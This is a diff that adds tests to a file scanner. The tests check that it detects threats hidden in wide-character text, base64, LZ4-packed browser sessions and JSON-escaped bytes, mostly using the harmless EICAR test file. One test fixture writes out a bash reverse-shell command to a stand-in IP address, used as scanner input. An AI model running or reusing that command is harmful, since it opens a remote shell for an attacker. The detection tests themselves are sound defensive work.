@@ -13,6 +13,7 @@ import { SCAN_LIMITS } from './limits.ts';
 import { isNumpy } from './numpy.ts';
 import { isPickle } from './pickle.ts';
 import { compileRules } from './rules.ts';
+import { wideTextsIn } from './wide-texts.ts';
 
 // Objects and arrays that Python saves, what goes over a network in pieces, and base85 that nothing names.
 
@@ -195,4 +196,71 @@ describe('what is written as letters in a stream of a PDF', () => {
     const page = `BT /F1 9 Tf <${'00480065006c006c006f'.repeat(9)}> Tj ET\n`.repeat(40);
     expect(await examined(pdf(latin(page)))).toMatchObject({ threat: null, unread: [], coverage: { members_total: 0 } });
   });
+});
+
+describe('a text of wide letters amid other bytes', () => {
+  const LINE = 'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1 # and some words behind it\n';
+  const wide = (width: number, is_big: boolean) =>
+    Buffer.concat(
+      [...LINE].map((letter) => {
+        const bytes = Buffer.alloc(width);
+        bytes[is_big ? width - 1 : 0] = letter.charCodeAt(0);
+        return bytes;
+      }),
+    );
+  test.each([
+    [2, false],
+    [2, true],
+    [4, false],
+    [4, true],
+  ] as const)('is read: %i bytes a letter, the highest first: %s', async (width, is_big) => {
+    for (const before of [300, 301]) {
+      const file = Buffer.concat([latin('\x93\x01'), noise(before), wide(width, is_big), noise(300)]);
+      expect(await examined(file)).toMatchObject({ threat: expect.stringContaining('Shell'), unread: [] });
+    }
+  });
+
+  test('is read as what is written in it', async () => {
+    const letters = Buffer.from(zip([{ name: 'eicar.com', content: EICAR }]).toString('base64'), 'utf16le');
+    const file = Buffer.concat([latin('\x93\x01'), noise(300), letters, noise(300)]);
+    expect(await examined(file)).toMatchObject({ threat: 'EICAR-Test-File', unread: [] });
+  });
+
+  test('is read as base64 of one byte a letter', async () => {
+    const letters = latin(zip([{ name: 'eicar.com', content: EICAR }]).toString('base64'));
+    const file = Buffer.concat([latin('\x93\x01'), noise(300), Buffer.alloc(1), letters, Buffer.alloc(1), noise(300)]);
+    expect(await examined(file)).toMatchObject({ threat: 'EICAR-Test-File', unread: [] });
+  });
+
+  test('is none where numbers have zeros between them', () => {
+    expect(
+      wideTextsIn(Buffer.from(Array.from({ length: 5000 }, (_, index) => (index % 2 === 0 ? (index * 7) % 256 : 0)))),
+    ).toBeUndefined();
+    expect(wideTextsIn(Buffer.alloc(100_000))).toBeUndefined();
+    expect(wideTextsIn(noise(100_000))).toBeUndefined();
+  });
+});
+
+describe('a session of a browser', () => {
+  test('packed with LZ4 is unpacked, and one that claims more than there is is damaged', async () => {
+    const size = Buffer.alloc(4);
+    size.writeUInt32LE(EICAR.length);
+    const literal = Buffer.concat([Buffer.from([0xf0, EICAR.length - 15]), EICAR]);
+    const file = (claim: Buffer) => Buffer.concat([latin('mozLz40\0'), claim, literal]);
+    expect(await examined(file(size), 'a.jsonlz4')).toMatchObject({ threat: 'EICAR-Test-File', unread: [] });
+    expect(await examined(file(Buffer.alloc(4, 0xff)))).toMatchObject({ unread: ['damaged'] });
+  });
+});
+
+test('bytes that JSON has as characters are read', async () => {
+  const zipped = zip([{ name: 'eicar.com', content: EICAR }]).toString('latin1');
+  for (const text of [
+    JSON.stringify({ file: zipped }),
+    JSON.stringify({ file: zipped }).replaceAll(/[\x7f-\xff]/g, (letter) => `\\u00${letter.charCodeAt(0).toString(16)}`),
+  ])
+    expect(await examined(Buffer.from(text, 'utf8'))).toMatchObject({ threat: 'EICAR-Test-File', unread: [] });
+});
+
+test('a vault of Ansible is encrypted', async () => {
+  expect(await examined(latin(`$ANSIBLE_VAULT;1.1;AES256\n${'3132'.repeat(20)}\n`))).toMatchObject({ unread: ['encrypted'] });
 });
